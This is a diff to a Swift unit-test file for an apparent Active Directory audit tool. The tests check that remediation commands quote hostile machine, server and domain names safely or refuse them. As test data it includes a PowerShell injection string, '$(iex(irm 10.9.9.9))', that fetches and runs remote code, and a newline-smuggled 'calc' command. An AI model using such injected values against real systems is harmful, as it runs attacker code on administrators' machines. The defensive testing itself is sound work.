@@ -103,7 +103,8 @@ final class HostileNameTests: XCTestCase {
                 name: name)
             assertCommands(
                 remediation, "Remove-ADComputer", .powerShell,
-                unquotable ? [] : [words("Remove-ADComputer", "-Identity", object.distinguishedName, "-Server", Self.server)],
+                unquotable
+                    ? [] : [words("Remove-ADComputer", "-Identity", object.distinguishedName, "-Server", Self.server)],
                 name: name)
             if unquotable {
                 assertRefusal(remediation, tool: "Enable-ADComputer", attribute: "sAMAccountName", value: name + "$")
@@ -134,12 +135,17 @@ final class HostileNameTests: XCTestCase {
                         remediation, "Reset-ComputerMachinePassword", .powerShell,
                         unquotable
                             ? []
-                            : [words("Reset-ComputerMachinePassword", "-Server", server, "-Credential") + [Self.credential]],
+                            : [
+                                words("Reset-ComputerMachinePassword", "-Server", server, "-Credential") + [
+                                    Self.credential
+                                ]
+                            ],
                         name: server)
                     assertCommands(
                         remediation, "netdom", .commandPrompt,
                         Hostile.isUnquotableInCommandPrompt(server)
-                            ? [] : [words("netdom", "resetpwd", "/Server:" + server, "/UserD:CORP\\admin", "/PasswordD:*")],
+                            ? []
+                            : [words("netdom", "resetpwd", "/Server:" + server, "/UserD:CORP\\admin", "/PasswordD:*")],
                         name: server)
                     if Hostile.isUnquotableInCommandPrompt(server) {
                         assertRefusal(remediation, tool: "netdom", attribute: "server name", value: server)
@@ -149,17 +155,45 @@ final class HostileNameTests: XCTestCase {
                         remediation, "adcli update", .posix,
                         unquotable
                             ? []
-                            : [words("adcli", "update", "--computer-password-lifetime=0", "--domain-controller=" + server)],
+                            : [
+                                words(
+                                    "adcli", "update", "--computer-password-lifetime=0", "--domain-controller=" + server
+                                )
+                            ],
                         name: server)
                     assertCommands(
-                        remediation, "realm join", .posix, unquotable ? [] : [words("realm", "join", server)], name: server)
-                    if unquotable { assertRefusal(remediation, tool: "realm join", attribute: "domain name", value: server) }
+                        remediation, "realm join", .posix, unquotable ? [] : [words("realm", "join", server)],
+                        name: server)
+                    if unquotable {
+                        assertRefusal(remediation, tool: "realm join", attribute: "domain name", value: server)
+                    }
                 }
                 assertCommands(
                     remediation, "Enable-ADComputer", .powerShell,
                     unquotable ? [] : [words("Enable-ADComputer", "-Identity", "WKS-0042$", "-Server", server)],
                     name: server)
             }
+        }
+    }
+
+    /// netdom points to the PowerShell command only when that command could be given.
+    func testNetdomRefusalPointsToAnAlternativeThatExists() {
+        for (server, instead) in [
+            ("dc01%PATH%", "use the PowerShell command above"), ("dc01\ncalc", Remediation.byHand),
+        ] {
+            let context = AuditContext(now: Fixture.now, configuration: AuditConfiguration(), domainController: server)
+            var findings: [Finding] = []
+            DisabledAccountRule().evaluate(computer("WKS-0042", userAccountControl: 4098), in: context, into: &findings)
+            let netdom = findings[0].remediation.split(separator: "\n").first { $0.hasPrefix("or (cmd.exe): ") }
+            XCTAssertEqual(
+                netdom.map(String.init),
+                "or (cmd.exe): "
+                    + Remediation.refusal(
+                        tool: "netdom",
+                        UnwritableValue(
+                            attribute: "server name", value: server,
+                            reason: Shell.commandPrompt.problem(with: server) ?? "", shell: .commandPrompt))
+                    + "; " + instead)
         }
     }
 
@@ -181,7 +215,8 @@ final class HostileNameTests: XCTestCase {
                 name: name)
             assertCommands(
                 remediation, "Remove-ADComputer", .powerShell,
-                unquotable ? [] : [words("Remove-ADComputer", "-Identity", dormant.distinguishedName, "-Server", Self.server)],
+                unquotable
+                    ? [] : [words("Remove-ADComputer", "-Identity", dormant.distinguishedName, "-Server", Self.server)],
                 name: name)
             if unquotable {
                 assertRefusal(remediation, tool: "Disable-ADComputer", attribute: "sAMAccountName", value: name + "$")
@@ -193,7 +228,12 @@ final class HostileNameTests: XCTestCase {
             assertCommands(
                 findings[0].remediation, "Get-ADComputer", .powerShell,
                 unquotable
-                    ? [] : [words("Get-ADComputer", "-Identity", name + "$", "-Properties", "pwdLastSet", "-Server", Self.server)],
+                    ? []
+                    : [
+                        words(
+                            "Get-ADComputer", "-Identity", name + "$", "-Properties", "pwdLastSet", "-Server",
+                            Self.server)
+                    ],
                 name: name)
         }
     }
@@ -208,7 +248,13 @@ final class HostileNameTests: XCTestCase {
             let unquotable = Hostile.isUnquotableAnywhere(domain)
             assertCommands(
                 findings[0].remediation, "Add-Computer", .powerShell,
-                unquotable ? [] : [words("Add-Computer", "-DomainName", domain, "-Credential") + [Self.credential, .word("-Restart")]],
+                unquotable
+                    ? []
+                    : [
+                        words("Add-Computer", "-DomainName", domain, "-Credential") + [
+                            Self.credential, .word("-Restart"),
+                        ]
+                    ],
                 name: domain)
         }
     }
@@ -223,16 +269,22 @@ final class HostileNameTests: XCTestCase {
         let remediation = try XCTUnwrap(findings.first).remediation
         assertCommands(
             remediation, "Set-ADComputer", .powerShell,
-            [words("Set-ADComputer", "-Identity", name + "$", "-DNSHostName", name + ".corp.example", "-Server", Self.server)],
+            [
+                words(
+                    "Set-ADComputer", "-Identity", name + "$", "-DNSHostName", name + ".corp.example", "-Server",
+                    Self.server)
+            ],
             name: name)
-        XCTAssertTrue(remediation.contains("setspn -S \"HOST/$(iex(irm 10.9.9.9)).corp.example\" \"$(iex(irm 10.9.9.9))\""))
+        XCTAssertTrue(
+            remediation.contains("setspn -S \"HOST/$(iex(irm 10.9.9.9)).corp.example\" \"$(iex(irm 10.9.9.9))\""))
     }
 
     func testMissingSPNCommandsCarryHostileNamesAsOneArgument() throws {
         for name in Hostile.names {
             for dnsHostName in [nil, "pc.corp.example"] {
                 var findings: [Finding] = []
-                MissingSPNRule().evaluate(computer(name, dnsHostName: dnsHostName), in: Fixture.context(), into: &findings)
+                MissingSPNRule().evaluate(
+                    computer(name, dnsHostName: dnsHostName), in: Fixture.context(), into: &findings)
                 let finding = try XCTUnwrap(findings.first, name.debugDescription)
                 let remediation = finding.remediation
                 guard case .strings(var spns)? = finding.detail("missingSPNs") else { return XCTFail("no missingSPNs") }
@@ -242,7 +294,9 @@ final class HostileNameTests: XCTestCase {
                     spns = ["HOST/" + fqdn, "RestrictedKrbHost/" + fqdn] + spns
                     if !Hostile.isUnquotableAnywhere(name) {
                         powerShell.append(
-                            words("Set-ADComputer", "-Identity", name + "$", "-DNSHostName", fqdn, "-Server", Self.server))
+                            words(
+                                "Set-ADComputer", "-Identity", name + "$", "-DNSHostName", fqdn, "-Server", Self.server)
+                        )
                     }
                 }
                 var setspn: [[ShellToken]] = []
@@ -295,10 +349,13 @@ final class HostileNameTests: XCTestCase {
             for finding in findings {
                 let remediation = finding.remediation
                 let holders = [(name, hostile.distinguishedName), ("WEB-0001", other.distinguishedName)].sorted {
-                    ($0.0 == finding.account.dropLast() ? 0 : 1, $0.0) < ($1.0 == finding.account.dropLast() ? 0 : 1, $1.0)
+                    ($0.0 == finding.account.dropLast() ? 0 : 1, $0.0) < (
+                        $1.0 == finding.account.dropLast() ? 0 : 1, $1.0
+                    )
                 }
                 let spnFits = !Hostile.isUnquotableInCommandPrompt(spn)
-                assertCommands(remediation, "setspn -Q", .commandPrompt, spnFits ? [words("setspn", "-Q", spn)] : [], name: name)
+                assertCommands(
+                    remediation, "setspn -Q", .commandPrompt, spnFits ? [words("setspn", "-Q", spn)] : [], name: name)
                 var setspn: [[ShellToken]] = []
                 var powerShell: [[ShellToken]] = []
                 for (holder, dn) in holders {
@@ -335,7 +392,11 @@ final class HostileNameTests: XCTestCase {
                 }
                 assertCommands(
                     remediation, "Add-Computer", .powerShell,
-                    [words("Add-Computer", "-DomainName", "corp.example", "-Credential") + [Self.credential, .word("-Restart")]],
+                    [
+                        words("Add-Computer", "-DomainName", "corp.example", "-Credential") + [
+                            Self.credential, .word("-Restart"),
+                        ]
+                    ],
                     name: item)
             }
         }
